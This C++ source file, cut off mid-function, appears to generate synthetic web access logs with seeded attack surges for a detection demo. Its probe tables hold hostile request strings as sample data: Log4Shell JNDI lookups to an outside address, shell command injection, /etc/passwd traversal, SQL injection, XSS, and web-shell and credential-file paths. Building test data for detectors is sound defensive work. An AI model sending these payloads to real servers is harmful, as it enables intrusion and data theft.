// The demo generator (see include/keikai/demo/generator.h).
//
// Every site is generated independently from its own random streams (seeded from opt.seed and a
// hash of the site name), day by day in JST: first the daily attack counts are planned for the
// whole range (so the peak day can be pinned to the seeded multiple of the realised baseline),
// then each day's ordinary sessions, crawler visits and attack bursts are laid out inside the
// day, sorted by time and appended to a large buffer that is flushed to the file in ~1 MiB chunks.
//
// Nothing here uses std:: distributions (their output differs between standard libraries); the
// PRNG is splitmix64 and the samplers are our own, so the same Options give the same bytes.

#include "keikai/demo/generator.h"

#include <algorithm>
#include <array>
#include <cerrno>
#include <charconv>
#include <cmath>
#include <cstdio>
#include <cstring>
#include <exception>
#include <filesystem>
#include <span>
#include <string_view>
#include <system_error>
#include <utility>

#include <nlohmann/json.hpp>

#include "keikai/core/time.h"

namespace keikai::demo {

std::vector<SiteSpec> DefaultSites() {
  return {
      {"shop.example.jp", 6000, 40, 25},
      {"corp.example.jp", 3000, 25, 25},
      {"blog.example.jp", 2500, 20, 25},
      {"calm.example.jp", 1500, 12, 0},
  };
}

namespace {

using std::string_view_literals::operator""sv;

constexpr int32_t kDaySeconds = 86400;
constexpr std::size_t kFlushBytes = std::size_t{1} << 20;
constexpr int64_t kBaselineDays = 90;

// ---------------------------------------------------------------------------------------------
// Randomness

uint64_t SplitMix64(uint64_t& state) {
  state += 0x9E3779B97F4A7C15ULL;
  uint64_t z = state;
  z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ULL;
  z = (z ^ (z >> 27)) * 0x94D049BB133111EBULL;
  return z ^ (z >> 31);
}

uint64_t Fnv1a(std::string_view s) {
  uint64_t h = 0xCBF29CE484222325ULL;
  for (char c : s) {
    h ^= static_cast<unsigned char>(c);
    h *= 0x100000001B3ULL;
  }
  return h;
}

// Derives an independent stream seed from a base seed and a tag.
uint64_t DeriveSeed(uint64_t base, uint64_t tag) {
  uint64_t s = base ^ (tag * 0xD1B54A32D192ED03ULL);
  SplitMix64(s);
  return SplitMix64(s);
}

class Rng {
 public:
  explicit Rng(uint64_t seed) : state_(seed) {}

  uint64_t Next() { return SplitMix64(state_); }
  // [0, 1)
  double Uniform() { return static_cast<double>(Next() >> 11) * 0x1.0p-53; }
  // (0, 1]
  double UniformOpen() { return 1.0 - Uniform(); }
  // [0, n); n > 0. The modulo bias is far below anything observable here.
  uint64_t Below(uint64_t n) { return n == 0 ? 0 : Next() % n; }
  // [lo, hi], inclusive.
  int64_t Range(int64_t lo, int64_t hi) {
    if (hi <= lo) return lo;
    return lo + static_cast<int64_t>(Below(static_cast<uint64_t>(hi - lo) + 1));
  }
  bool Chance(double p) { return Uniform() < p; }
  double Exponential(double mean) { return -mean * std::log(UniformOpen()); }
  // Standard normal (Box-Muller, one value per call).
  double Normal() {
    const double u1 = UniformOpen();
    const double u2 = Uniform();
    return std::sqrt(-2.0 * std::log(u1)) * std::cos(2.0 * 3.14159265358979323846 * u2);
  }
  // Knuth's method for small lambda, a rounded normal approximation above 30.
  uint64_t Poisson(double lambda) {
    if (!(lambda > 0)) return 0;
    if (lambda > 30) {
      const double x = std::round(lambda + std::sqrt(lambda) * Normal());
      return x <= 0 ? 0 : static_cast<uint64_t>(x);
    }
    const double limit = std::exp(-lambda);
    uint64_t k = 0;
    double p = Uniform();
    while (p > limit) {
      ++k;
      p *= Uniform();
    }
    return k;
  }
  // Index drawn with probability proportional to weights[i].
  std::size_t Weighted(std::span<const double> weights) {
    double total = 0;
    for (double w : weights) total += w;
    double x = Uniform() * total;
    for (std::size_t i = 0; i < weights.size(); ++i) {
      if (x < weights[i]) return i;
      x -= weights[i];
    }
    return weights.size() - 1;
  }
  // An index in [0, n) skewed toward small values (a few heavy users / persistent sources).
  std::size_t Skewed(std::size_t n) {
    const double u = Uniform();
    const auto i = static_cast<std::size_t>(u * u * static_cast<double>(n));
    return std::min(i, n - 1);
  }
  template <typename T>
  const T& Pick(std::span<const T> items) {
    return items[static_cast<std::size_t>(Below(items.size()))];
  }

 private:
  uint64_t state_;
};

// ---------------------------------------------------------------------------------------------
// Small formatting helpers

void AppendInt(std::string& out, int64_t v) {
  char buf[24];
  auto r = std::to_chars(buf, buf + sizeof buf, v);
  out.append(buf, r.ptr);
}

std::string IntStr(int64_t v) {
  std::string s;
  AppendInt(s, v);
  return s;
}

std::string Pad(int64_t v, int width) {
  std::string s = IntStr(v);
  while (static_cast<int>(s.size()) < width) s.insert(s.begin(), '0');
  return s;
}

// A stable size in [lo, hi) for a resource, so the same asset always has the same length.
int64_t StableSize(std::string_view path, int64_t lo, int64_t hi) {
  return lo + static_cast<int64_t>(Fnv1a(path) % static_cast<uint64_t>(hi - lo));
}

// "DD/Mon/YYYY:" for a day number.
std::string ClfDatePrefix(int64_t day) {
  static constexpr std::array<std::string_view, 12> kMonths = {
      "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"};
  int64_t y = 0;
  unsigned m = 1, d = 1;
  CivilFromDays(day, y, m, d);
  std::string s = Pad(static_cast<int64_t>(d), 2);
  s += '/';
  s += kMonths[(m - 1) % 12];
  s += '/';
  s += Pad(y, 4);
  s += ':';
  return s;
}

// 0 = Sunday ... 6 = Saturday (1970-01-01 was a Thursday).
int Weekday(int64_t day) { return static_cast<int>(((day % 7) + 7 + 4) % 7); }

double OrdinaryWeekly(int64_t day) {
  switch (Weekday(day)) {
    case 0: return 0.70;
    case 6: return 0.75;
    default: return 1.0;
  }
}

double AttackWeekly(int64_t day) {
  switch (Weekday(day)) {
    case 0: return 0.93;
    case 6: return 0.95;
    default: return 1.0;
  }
}

// ---------------------------------------------------------------------------------------------
// Buffered output

class BufferedFile {
 public:
  BufferedFile() = default;
  BufferedFile(const BufferedFile&) = delete;
  BufferedFile& operator=(const BufferedFile&) = delete;
  ~BufferedFile() {
    if (f_ != nullptr) std::fclose(f_);
  }

  Status Open(const std::string& path) {
    path_ = path;
    f_ = std::fopen(path.c_str(), "wb");
    if (f_ == nullptr) return Status::Error("io", path + ": " + std::strerror(errno));
    buf_.reserve(kFlushBytes + (kFlushBytes >> 2));
    return Status::Ok();
  }
  std::string& buf() { return buf_; }
  Status MaybeFlush() { return buf_.size() >= kFlushBytes ? Flush() : Status::Ok(); }
  Status Flush() {
    if (buf_.empty()) return Status::Ok();
    const std::size_t n = std::fwrite(buf_.data(), 1, buf_.size(), f_);
    if (n != buf_.size()) return Status::Error("io", path_ + ": write failed: " + std::strerror(errno));
    buf_.clear();
    return Status::Ok();
  }
  Status Close() {
    Status s = Flush();
    if (f_ != nullptr) {
      const int rc = std::fclose(f_);
      f_ = nullptr;
      if (rc != 0 && s.ok()) s = Status::Error("io", path_ + ": close failed: " + std::strerror(errno));
    }
    return s;
  }

 private:
  std::FILE* f_ = nullptr;
  std::string path_;
  std::string buf_;
};

// ---------------------------------------------------------------------------------------------
// Static content: addresses, user agents, paths

// Japanese-looking public /16s (ISPs and mobile carriers).
constexpr std::array<std::string_view, 39> kJpPrefixes = {
    "126.204.", "126.33.",  "126.236.", "133.32.",  "133.106.", "153.156.", "153.211.", "180.12.",
    "180.46.",  "202.214.", "210.138.", "210.170.", "219.104.", "219.117.", "220.96.",  "220.146.",
    "221.113.", "221.186.", "60.36.",   "60.112.",  "61.115.",  "61.205.",  "106.72.",  "106.154.",
    "110.233.", "114.145.", "114.180.", "118.8.",   "118.241.", "121.2.",   "121.115.", "122.16.",
    "122.135.", "124.110.", "124.154.", "125.0.",   "125.194.", "150.66.",  "150.249."};
// Visitors from elsewhere (US, UK, Korea, Taiwan, ...).
constexpr std::array<std::string_view, 10> kOtherHumanPrefixes = {
    "73.162.", "24.5.", "86.134.", "81.2.", "112.169.", "175.223.", "36.227.", "49.228.",
    "203.220.", "98.207."};
// Where attacks come from. Entries with one dot are /8s.
constexpr std::array<std::string_view, 17> kAttackPrefixes = {
    "45.",  "185.", "193.", "194.", "89.",  "91.",      "104.",    "167.",   "178.",
    "159.", "103.", "118.193.", "218.92.", "5.188.", "141.98.", "62.204.", "92.118."};
// The surge campaign's sources (a botnet heavy in Asia plus rented servers).
constexpr std::array<std::string_view, 8> kSurgePrefixes = {
    "45.", "103.", "118.193.", "218.92.", "185.", "194.", "159.", "167."};

struct WeightedUa {
  std::string_view ua;
  double weight;
};

constexpr std::array<WeightedUa, 15> kBrowserUas = {{
    {"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/98.0.4758.102 Safari/537.36", 16},
    {"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/97.0.4692.99 Safari/537.36", 7},
    {"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/98.0.4758.102 Safari/537.36 Edg/98.0.1108.56", 8},
    {"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:97.0) Gecko/20100101 Firefox/97.0", 3},
    {"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/98.0.4758.102 Safari/537.36", 5},
    {"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
     "Version/15.3 Safari/605.1.15", 5},
    {"Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:97.0) Gecko/20100101 Firefox/97.0", 1},
    {"Mozilla/5.0 (iPhone; CPU iPhone OS 15_3_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
     "Gecko) Version/15.3 Mobile/15E148 Safari/604.1", 18},
    {"Mozilla/5.0 (iPhone; CPU iPhone OS 15_2_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
     "Gecko) Version/15.2 Mobile/15E148 Safari/604.1", 8},
    {"Mozilla/5.0 (iPhone; CPU iPhone OS 15_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
     "Gecko) CriOS/98.0.4758.97 Mobile/15E148 Safari/604.1", 3},
    {"Mozilla/5.0 (iPad; CPU OS 15_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
     "Version/15.3 Mobile/15E148 Safari/604.1", 3},
    {"Mozilla/5.0 (Linux; Android 12; Pixel 6) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/98.0.4758.101 Mobile Safari/537.36", 5},
    {"Mozilla/5.0 (Linux; Android 11; SC-52A) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/97.0.4692.98 Mobile Safari/537.36", 6},
    {"Mozilla/5.0 (Linux; Android 11; SAMSUNG SC-51B) AppleWebKit/537.36 (KHTML, like Gecko) "
     "SamsungBrowser/16.0 Chrome/92.0.4515.166 Mobile Safari/537.36", 2},
    {"Mozilla/5.0 (Linux; Android 10; SO-01M) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/98.0.4758.87 Mobile Safari/537.36", 3},
}};

struct Crawler {
  std::string_view ua;
  std::string_view ip_prefix;  // a /24, last octet drawn
  double weight;
};

constexpr std::array<Crawler, 5> kCrawlers = {{
    {"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "66.249.66.", 45},
    {"Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", "40.77.167.", 25},
    {"Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", "5.255.253.", 9},
    {"Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)",
     "220.181.108.", 12},
    {"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) "
     "Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
     "17.58.101.", 9},
}};

constexpr std::array<std::string_view, 11> kScannerUas = {
    "sqlmap/1.6.2#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/91.0.4472.124 Safari/537.36 nuclei",
    "Mozilla/5.0 zgrab/0.x",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "gobuster/3.1.0",
    "Fuzz Faster U Fool v2.0.0",
    "Mozilla/5.0 (l9explore/1.2.2)",
    "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
};
// Background vs surge: the surge leans on the fast template scanners.
constexpr std::array<double, 11> kScannerWeightsBg = {6, 6, 10, 12, 8, 4, 8, 5, 4, 6, 12};
constexpr std::array<double, 11> kScannerWeightsSurge = {4, 3, 30, 14, 6, 3, 5, 10, 8, 12, 5};

constexpr std::size_t kFirstScriptedBot = 10;  // kBadBotUas[10..] are scripted clients
constexpr std::array<std::string_view, 13> kBadBotUas = {
    "Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
    "Mozilla/5.0 (compatible; DotBot/1.2; +https://opensiteexplorer.org/dotbot; help@moz.com)",
    "Mozilla/5.0 (compatible; BLEXBot/1.0; +http://webmeup-crawler.com/)",
    "Mozilla/5.0 (compatible; MegaIndex.ru/2.0; +http://megaindex.com/crawler)",
    "Mozilla/5.0 (compatible; serpstatbot/2.1; +https://serpstatbot.com/)",
    "Mozilla/5.0 (compatible; DataForSeoBot/1.0; +https://dataforseo.com/dataforseo-bot)",
    "Mozilla/4.5 (compatible; HTTrack 3.0x; Windows 98)",
    "ZmEu",
    "python-requests/2.28.1",
    "Go-http-client/1.1",
    "libwww-perl/6.67",
};
constexpr std::array<double, 13> kBadBotWeights = {12, 14, 12, 8, 6, 5, 5, 5, 3, 2, 12, 10, 4};

// Browser UAs that hiding scanners send with their probes.
constexpr std::array<std::string_view, 5> kAttackBrowserUas = {
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/81.0.4044.129 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/78.0.3904.108 Safari/537.36",
    "Mozilla/5.0 (Windows NT 6.1; WOW64; rv:45.0) Gecko/20100101 Firefox/45.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_13_6) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/70.0.3538.102 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/98.0.4758.102 Safari/537.36",
};

// One attack request template: target as logged, method, the usual status and an alternative
// status used about a quarter of the time.
struct Probe {
  std::string_view target;
  std::string_view method;
  int status;
  int alt_status;
};

constexpr std::array<Probe, 10> kSensitiveProbes = {{
    {"/.env", "GET", 404, 404},
    {"/.git/config", "GET", 404, 403},
    {"/wp-config.php.bak", "GET", 404, 404},
    {"/.aws/credentials", "GET", 404, 404},
    {"/phpinfo.php", "GET", 404, 404},
    {"/backup.sql", "GET", 404, 404},
    {"/.DS_Store", "GET", 404, 403},
    {"/server-status", "GET", 403, 404},
    {"/config.php.bak", "GET", 404, 404},
    {"/.htpasswd", "GET", 403, 404},
}};
// Admin probes are always answered 404 (these sites run none of them). The first five are used on
// every site; the last two only where WordPress is not installed.
constexpr std::size_t kAdminNonWordPress = 5;
constexpr std::array<Probe, 7> kAdminProbes = {{
    {"/phpmyadmin/", "GET", 404, 404},
    {"/pma/", "GET", 404, 404},
    {"/manager/html", "GET", 404, 404},
    {"/adminer.php", "GET", 404, 404},
    {"/administrator/", "GET", 404, 404},
    {"/wp-login.php", "GET", 404, 404},
    {"/xmlrpc.php", "POST", 404, 404},
}};
constexpr std::array<Probe, 6> kBackdoorProbes = {{
    {"/shell.php", "GET", 404, 404},
    {"/wp-content/plugins/x/c99.php", "GET", 404, 404},
    {"/r57.php", "GET", 404, 404},
    {"/wso.php", "POST", 404, 404},
    {"/alfa.php", "GET", 404, 404},
    {"/cmd.php", "GET", 404, 404},
}};
constexpr std::array<Probe, 8> kCveProbes = {{
    {"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "POST", 404, 404},
    {"/_ignition/execute-solution", "POST", 404, 404},
    {"/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", "GET", 404, 400},
    {"/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", "GET", 400, 404},
    {"/boaform/admin/formLogin", "POST", 404, 404},
    {"/GponForm/diag_Form?images/", "POST", 404, 400},
    {"/HNAP1/", "GET", 404, 404},
    {"/autodiscover/autodiscover.json?@zdi/Powershell", "GET", 404, 404},
}};
constexpr std::array<Probe, 2> kTraversalProbes = {{
    {"/download?file=../../../../etc/passwd", "GET", 404, 400},
    {"/index.php?page=%2e%2e%2f%2e%2e%2fetc%2fpasswd", "GET", 404, 200},
}};
constexpr std::array<Probe, 3> kSqliProbes = {{
    {"/products?id=1%27%20OR%20%271%27%3D%271", "GET", 404, 500},
    {"/search?q=1%20UNION%20SELECT%20username,password%20FROM%20users--", "GET", 200, 404},
    {"/item?id=1%20AND%20SLEEP(5)", "GET", 404, 404},
}};
constexpr std::array<Probe, 3> kXssProbes = {{
    {"/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "GET", 200, 404},
    {"/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", "GET", 200, 404},
    {"/redirect?url=javascript:alert(document.domain)", "GET", 404, 404},
}};
// Index 0 carries Log4Shell in the user agent instead of the target.
constexpr std::size_t kRceInUa = 0;
constexpr std::string_view kLog4ShellUa = "${jndi:ldap://198.51.100.7/a}";
constexpr std::array<Probe, 7> kRceProbes = {{
    {"/", "GET", 200, 200},
    {"/?x=${jndi:ldap://198.51.100.7:1389/a}", "GET", 200, 200},
    // nginx writes a backslash in the request line as \x5C.
    {"/index.php?s=/Index/\\x5Cthink\\x5Capp/invokefunction&function=call_user_func_array&"
     "vars[0]=md5&vars[1][]=HelloThinkPHP",
     "GET", 404, 404},
    {"/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>/tmp/x)", "GET", 404,
     404},
    {"/cgi-bin/bash?cmd=/bin/sh%20-c%20id", "GET", 404, 404},
    {"/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=/bin/sh%20-c%20id&curpath=/"
     "&currentsetting.htm=1",
     "GET", 404, 404},
    {"/cgi-bin/;/bin/sh%20-c%20uname", "GET", 404, 400},
}};

// Paths that scanner-UA traffic requests besides probes (detected by the user agent).
constexpr std::array<std::string_view, 12> kScanPaths = {
    "/",       "/robots.txt", "/favicon.ico", "/index.html", "/api",         "/api/v1",
    "/login",  "/test",       "/home",        "/portal",     "/sitemap.xml", "/.well-known/security.txt"};

enum class AttackKind : std::size_t {
  kScannerUa = 0,
  kBadBot,
  kSensitive,
  kAdmin,
  kBackdoor,
  kCve,
  kTraversal,
  kSqli,
  kXss,
  kRce,
  kCount
};
constexpr std::array<double, 10> kAttackWeightsBg = {20, 25, 15, 10, 5, 10, 4, 4, 3, 4};
constexpr std::array<double, 10> kAttackWeightsSurge = {36, 5, 20, 12, 6, 12, 3, 2, 2, 2};

// Hour-of-day profile of human traffic (JST): quiet at 3-5h, peaks at 10-12h and 20-22h.
constexpr std::array<double, 24> kHourProfile = {3.0, 2.0, 1.3, 0.8, 0.7, 0.9, 1.6, 2.6,
                                                 3.6, 4.6, 5.6, 5.8, 5.4, 4.8, 4.6, 4.5,
                                                 4.4, 4.5, 4.8, 5.3, 6.0, 6.2, 5.6, 4.3};

// Site content.
constexpr std::array<std::string_view, 10> kShopCategories = {
    "fashion", "shoes", "bags", "kitchen", "outdoor", "electronics", "books", "toys", "beauty",
    "interior"};
// Search words: plain product words and percent-encoded Japanese (kaban, kutsu, kohi).
constexpr std::array<std::string_view, 12> kShopWords = {
    "bag", "sneakers", "coffee", "camera", "headphones", "jacket", "wallet", "umbrella", "mug",
    "%E3%82%AB%E3%83%90%E3%83%B3", "%E9%9D%B4", "%E3%82%B3%E3%83%BC%E3%83%92%E3%83%BC"};
constexpr std::array<std::string_view, 5> kCorpServices = {"consulting", "cloud", "security",
                                                           "development", "support"};
constexpr std::array<std::string_view, 4> kCorpJobs = {"engineer", "sales", "designer",
                                                       "newgrad"};
constexpr std::array<std::string_view, 10> kBlogPlaces = {
    "kyoto", "tokyo", "osaka", "hokkaido", "okinawa", "kamakura", "nikko", "hakone", "nara",
    "fukuoka"};
constexpr std::array<std::string_view, 10> kBlogTopics = {
    "autumn-walk", "ramen-guide", "cafe-notes", "onsen-trip", "photo-diary", "winter-lights",
    "night-view", "weekend-hike", "train-journey", "street-food"};
constexpr std::array<std::string_view, 8> kBlogTags = {
    "travel", "food", "photo", "camera", "onsen", "cafe", "hiking", "diary"};
constexpr std::array<std::string_view, 5> kBrochurePages = {"/about", "/access", "/menu",
                                                            "/gallery", "/news"};

enum class SiteKind { kShop, kCorp, kBlog, kBrochure };

SiteKind KindOf(std::string_view name) {
  if (name.starts_with("shop")) return SiteKind::kShop;
  if (name.starts_with("corp")) return SiteKind::kCorp;
  if (name.starts_with("blog")) return SiteKind::kBlog;
  return SiteKind::kBrochure;
}

template <std::size_t N>
std::span<const double> W(const std::array<double, N>& a) {
  return std::span<const double>(a.data(), a.size());
}

template <typename T, std::size_t N>
std::span<const T> S(const std::array<T, N>& a) {
  return std::span<const T>(a.data(), a.size());
}

// ---------------------------------------------------------------------------------------------
// Per-site generation

struct Event {
  int32_t t = 0;      // seconds into the JST day
  uint32_t seq = 0;   // insertion order; breaks ties so the sort is a total order
  const std::string* ip = nullptr;
  std::string rest;   // "\"GET / HTTP/1.1\" 200 123 \"-\" \"UA\""
  bool attack = false;
};

struct PageHit {
  std::string path;
  bool missing = false;
  int kind = 0;   // site-specific page type, used to pick its images
  int64_t id = 0; // product / news / post id
};

struct Client {
  std::size_t ip = 0;
  std::size_t ua = 0;
  bool returning = false;  // has the site's static files cached
};

struct Dates {
  int64_t start = 0, end = 0, surge_start = 0, surge_peak = 0;
};

class SiteGenerator {
 public:
  SiteGenerator(const SiteSpec& spec, const Options& opt, const Dates& dates)
      : spec_(spec),
        kind_(KindOf(spec.name)),
        dates_(dates),
        scale_(opt.scale),
        surging_(spec.surge_multiple > 1),
        site_seed_(DeriveSeed(opt.seed, Fnv1a(spec.name))),
        count_rng_(DeriveSeed(site_seed_, 1)),
        traffic_rng_(DeriveSeed(site_seed_, 2)),
        attack_rng_(DeriveSeed(site_seed_, 3)) {
    site_url_ = "https://" + spec.name;
    not_found_bytes_ = StableSize(spec.name, 3200, 5200);
    BuildPools(opt.seed);
  }

  Status Run(const std::string& path, SiteTruth& truth) {
    PlanAttacks();
    BufferedFile out;
    if (Status s = out.Open(path); !s.ok()) return s;

    const int64_t ndays = dates_.end - dates_.start + 1;
    std::vector<uint64_t> written_attacks(static_cast<std::size_t>(ndays), 0);
    std::vector<Event> events;
    uint64_t lines = 0, attack_lines = 0;
    double drift = 0;  // slow random walk of ordinary volume, in log space

    for (int64_t i = 0; i < ndays; ++i) {
      const int64_t day = dates_.start + i;
      events.clear();
      seq_ = 0;

      drift = 0.97 * drift + 0.025 * count_rng_.Normal();
      const double ordinary_mean =
          spec_.requests_per_day * scale_ * OrdinaryWeekly(day) * std::exp(drift);
      const uint64_t ordinary = count_rng_.Poisson(ordinary_mean);
      uint64_t crawler_lines = static_cast<uint64_t>(
          std::llround(static_cast<double>(ordinary) * (0.04 + 0.02 * count_rng_.Uniform())));
      crawler_lines = std::min(crawler_lines, ordinary);
      uint64_t human_lines = ordinary - crawler_lines;

      if (kind_ == SiteKind::kBlog && human_lines > 3 && traffic_rng_.Chance(0.7)) {
        human_lines -= AuthorSession(events, human_lines);
      }
      while (human_lines > 0) human_lines -= HumanSession(events, human_lines);
      while (crawler_lines > 0) crawler_lines -= CrawlerSession(events, crawler_lines);

      const auto idx = static_cast<std::size_t>(i);
      uint64_t attacks = attack_plan_[idx];
      while (attacks > 0) attacks -= AttackBurst(events, attacks, multiple_[idx]);

      std::sort(events.begin(), events.end(), [](const Event& a, const Event& b) {
        return a.t != b.t ? a.t < b.t : a.seq < b.seq;
      });

      const std::string date = ClfDatePrefix(day);
      std::string& buf = out.buf();
      for (const Event& e : events) {
        buf.append(*e.ip);
        buf.append(" - - [");
        buf.append(date);
        const int32_t h = e.t / 3600, m = (e.t / 60) % 60, s = e.t % 60;
        const char hms[] = {static_cast<char>('0' + h / 10), static_cast<char>('0' + h % 10),
                            ':',
                            static_cast<char>('0' + m / 10), static_cast<char>('0' + m % 10),
                            ':',
                            static_cast<char>('0' + s / 10), static_cast<char>('0' + s % 10)};
        buf.append(hms, sizeof hms);
        buf.append(" +0900] ");
        buf.append(e.rest);
        buf.push_back('\n');
        if (e.attack) ++written_attacks[idx];
        if (Status st = out.MaybeFlush(); !st.ok()) return st;
      }
      lines += events.size();
      attack_lines += written_attacks[idx];
    }
    if (Status s = out.Close(); !s.ok()) return s;

    truth.site = spec_.name;
    truth.lines = lines;
    truth.attack_lines = attack_lines;
    truth.baseline_daily = BaselineMean(written_attacks);
    truth.peak_daily = 0;
    if (dates_.surge_peak >= dates_.start && dates_.surge_peak <= dates_.end) {
      truth.peak_daily = static_cast<double>(
          written_attacks[static_cast<std::size_t>(dates_.surge_peak - dates_.start)]);
    }
    truth.seeded_peak_ratio = surging_ ? spec_.surge_multiple : 0.0;
    truth.realised_peak_ratio =
        truth.baseline_daily > 0 ? truth.peak_daily / truth.baseline_daily : 0.0;
    return Status::Ok();
  }

 private:
  // Mean of per-day counts over the (up to) 90 days before surge_start that lie in the range.
  double BaselineMean(const std::vector<uint64_t>& per_day) const {
    const int64_t from = std::max(dates_.start, dates_.surge_start - kBaselineDays);
    const int64_t to = std::min(dates_.end, dates_.surge_start - 1);
    if (to < from) return 0;
    uint64_t sum = 0;
    for (int64_t d = from; d <= to; ++d) sum += per_day[static_cast<std::size_t>(d - dates_.start)];
    return static_cast<double>(sum) / static_cast<double>(to - from + 1);
  }

  // The attack-day multiplier m(d) before the peak is pinned.
  double Multiple(int64_t day) const {
    if (!surging_ || day < dates_.surge_start) return 1.0;
    const double big_m = spec_.surge_multiple;
    const double m0 = std::min(3.0, 1.0 + 0.5 * (big_m - 1.0));
    if (day <= dates_.surge_peak) {
      if (dates_.surge_peak == dates_.surge_start) return big_m;
      const double x = static_cast<double>(day - dates_.surge_start) /
                       static_cast<double>(dates_.surge_peak - dates_.surge_start);
      return m0 + (big_m - m0) * x * x;
    }
    const double x = static_cast<double>(day - dates_.surge_peak) /
                     static_cast<double>(dates_.end - dates_.surge_peak);
    return big_m - 0.4 * big_m * x;
  }

  // Plans the number of attack lines of every day. The peak day gets exactly the seeded multiple
  // of the realised baseline mean (the header's definition of surge_multiple), and every other
  // day is held a little below it so the peak is the clear maximum.
  void PlanAttacks() {
    const int64_t ndays = dates_.end - dates_.start + 1;
    const double base = spec_.attacks_per_day * scale_;
    attack_plan_.assign(static_cast<std::size_t>(ndays), 0);
    multiple_.assign(static_cast<std::size_t>(ndays), 1.0);
    for (int64_t i = 0; i < ndays; ++i) {
      const int64_t day = dates_.start + i;
      if (surging_ && day >= dates_.surge_start) continue;
      attack_plan_[static_cast<std::size_t>(i)] = count_rng_.Poisson(base * AttackWeekly(day));
    }
    if (!surging_) return;
    double baseline = BaselineMean(attack_plan_);
    if (dates_.surge_start <= dates_.start) baseline = base;  // no pre-surge days to measure
    const auto peak = static_cast<uint64_t>(std::llround(spec_.surge_multiple * baseline));
    const auto cap = static_cast<uint64_t>(std::floor(0.96 * static_cast<double>(peak)));
    for (int64_t i = 0; i < ndays; ++i) {
      const int64_t day = dates_.start + i;
      const auto idx = static_cast<std::size_t>(i);
      if (day >= dates_.surge_start) {
        multiple_[idx] = Multiple(day);
        if (day == dates_.surge_peak) {
          attack_plan_[idx] = peak;
          continue;
        }
        attack_plan_[idx] = count_rng_.Poisson(multiple_[idx] * baseline * AttackWeekly(day));
      }
      if (day != dates_.surge_peak) attack_plan_[idx] = std::min(attack_plan_[idx], cap);
    }
  }

  void BuildPools(uint64_t opt_seed) {
    Rng r(DeriveSeed(site_seed_, 4));
    auto make_ip = [](Rng& g, std::string_view prefix) {
      std::string ip(prefix);
      const auto dots = std::count(prefix.begin(), prefix.end(), '.');
      if (dots == 1) {
        ip += IntStr(g.Range(1, 254));
        ip += '.';
      }
      ip += IntStr(g.Range(0, 255));
      ip += '.';
      ip += IntStr(g.Range(1, 254));
      return ip;
    };

    const std::size_t nclients = 1500 + static_cast<std::size_t>(r.Below(1500));
    human_ips_.reserve(nclients);
    clients_.reserve(nclients);
    std::array<double, kBrowserUas.size()> ua_weights{};
    for (std::size_t i = 0; i < kBrowserUas.size(); ++i) ua_weights[i] = kBrowserUas[i].weight;
    for (std::size_t i = 0; i < nclients; ++i) {
      const bool jp = r.Chance(0.9);
      human_ips_.push_back(make_ip(r, jp ? r.Pick(S(kJpPrefixes)) : r.Pick(S(kOtherHumanPrefixes))));
      clients_.push_back({i, r.Weighted(W(ua_weights)), r.Chance(0.45)});
    }
    author_ip_ = make_ip(r, kJpPrefixes[0]);

    for (const Crawler& c : kCrawlers) {
      std::vector<std::string> ips;
